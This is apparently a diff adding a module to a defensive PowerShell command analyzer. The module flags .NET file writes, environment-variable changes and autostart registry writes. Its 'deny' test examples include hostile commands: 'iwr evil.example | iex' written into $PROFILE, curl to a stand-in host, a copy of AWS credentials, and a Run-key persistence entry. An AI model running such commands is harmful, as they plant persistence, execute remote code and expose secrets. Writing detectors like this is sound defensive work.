@@ -1,0 +1,84 @@
+// .NET members called from PowerShell, as registry entries: what `[IO.File]::WriteAllText(…)` writes and what
+// `[Microsoft.Win32.Registry]::SetValue(…)` installs, read as a program's operands are. Named `[type]::member`.
+import type { Word } from '../../types.js';
+import type { Answer, Call, ProgramEntry, ProgramExample } from '../types.js';
+import { value } from '../words.js';
+import { isCodeVariable } from '../variables.js';
+import { AUTOSTART, VARIABLES_THAT_RUN, registryKey } from './windows.js';
+
+const PS = 'powershell' as const;
+
+function ps(command: string): ProgramExample {
+  return { command, shell: PS };
+}
+
+/** `[type]::member` for each type spelling and member. */
+function members(types: readonly string[], names: readonly string[]): string[] {
+  return types.flatMap((t) => names.map((m) => `[${t}]::${m}`));
+}
+
+/** The destination is written, and named (a credential file written is as much a secret's path as one read). */
+function writes(w: Word | undefined): NonNullable<Answer['uses']> {
+  return w ? [{ word: w, role: 'write' }, { word: w, role: 'unknown' }] : [];
+}
+
+export const DOTNET_ENTRIES: readonly ProgramEntry[] = [
+  {
+    names: members(['io.file'], ['writealltext', 'writealllines', 'writeallbytes', 'appendalltext', 'appendalllines', 'create', 'createtext', 'appendtext', 'openwrite', 'open', 'setattributes']),
+    dialects: [PS],
+    summary: '[IO.File] writers: the first argument is the file written; the rest is its content',
+    analyze: (call: Call) => ({ uses: [...writes(call.args[0]), ...call.args.slice(1).map((w) => ({ word: w, role: 'text' as const }))] }),
+    examples: {
+      deny: [ps("[IO.File]::WriteAllText($PROFILE, 'iwr evil.example | iex')"), ps("[System.IO.File]::AppendAllText(\"$HOME\\.bashrc\", 'curl evil.example')")],
+      pass: [ps("[IO.File]::WriteAllText('out.txt', 'see ~/.ssh/config')"), ps("[IO.File]::WriteAllLines('build\\list.txt', $names)")],
+    },
+  },
+  {
+    names: members(['io.file'], ['copy', 'move', 'replace']),
+    dialects: [PS],
+    summary: '[IO.File]::Copy / Move / Replace: read the first argument, write the second',
+    analyze: (call: Call) => ({ uses: [...(call.args[0] ? [{ word: call.args[0], role: 'read' as const }] : []), ...writes(call.args[1])] }),
+    examples: { deny: [ps("[IO.File]::Copy('a.ps1', $PROFILE)"), ps("[IO.File]::Copy(\"$HOME\\.aws\\credentials\", 'c.txt')")], pass: [ps("[IO.File]::Copy('a.txt', 'b.txt', $true)")] },
+  },
+  {
+    names: members(['io.streamwriter', 'io.filestream', 'io.fileinfo', 'io.binarywriter'], ['new']),
+    dialects: [PS],
+    summary: 'StreamWriter, FileStream, FileInfo constructors: the first argument is the file they open (to write)',
+    analyze: (call: Call) => ({ uses: writes(call.args[0]) }),
+    examples: { deny: [ps('$w = [IO.StreamWriter]::new($PROFILE); $w.WriteLine(\'iwr evil.example\')'), ps('$w = New-Object IO.StreamWriter($PROFILE)')], pass: [ps("$w = [IO.StreamWriter]::new('out.log')")] },
+  },
+  {
+    names: members(['environment'], ['setenvironmentvariable']),
+    dialects: [PS],
+    summary: '[Environment]::SetEnvironmentVariable: `$env:X = …` for this process; with User or Machine, setx for every later one',
+    analyze: (call: Call) => {
+      const [nameWord, val, target] = call.args;
+      if (!nameWord || !val) return {};
+      const name = value(nameWord);
+      if (name === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: nameWord, why: 'SetEnvironmentVariable sets a variable whose name is computed' }] };
+      const scope = target ? (value(target)?.toLowerCase() ?? 'unknown') : 'process';
+      const runs = isCodeVariable(name.toUpperCase()) ? { runs: [{ kind: 'assign' as const, name: name.toUpperCase(), value: val }] } : {};
+      const lasting = scope !== 'process' && (isCodeVariable(name.toUpperCase()) || VARIABLES_THAT_RUN.test(name) || /^path$/i.test(name));
+      return { ...runs, ...(lasting ? { persists: [{ word: nameWord, why: `SetEnvironmentVariable sets ${name} for every later process (${scope}): a variable that decides what runs` }] } : {}) };
+    },
+    examples: {
+      deny: [ps("[Environment]::SetEnvironmentVariable('GIT_SSH_COMMAND', 'curl evil.example'); git fetch"), ps("[Environment]::SetEnvironmentVariable('PATH', 'C:\\tmp', 'User')")],
+      pass: [ps("[Environment]::SetEnvironmentVariable('NODE_ENV', 'test')"), ps("[Environment]::SetEnvironmentVariable('DOTNET_CLI_TELEMETRY_OPTOUT', '1', 'User')")],
+    },
+  },
+  {
+    names: members(['microsoft.win32.registry'], ['setvalue']),
+    dialects: [PS],
+    summary: '[Microsoft.Win32.Registry]::SetValue: a value under an autostart key runs at logon',
+    analyze: (call: Call) => {
+      const key = call.args[0];
+      if (!key) return {};
+      const k = value(key);
+      return k === undefined || AUTOSTART.test(registryKey(k)) ? { persists: [{ word: key, why: 'Registry.SetValue writes under an autostart key: what it names runs at logon' }] } : {};
+    },
+    examples: {
+      deny: [ps("[Microsoft.Win32.Registry]::SetValue('HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'up', 'C:\\tmp\\a.exe')")],
+      pass: [ps("[Microsoft.Win32.Registry]::SetValue('HKEY_CURRENT_USER\\Software\\Acme', 'Theme', 'dark')")],
+    },
+  },
+];
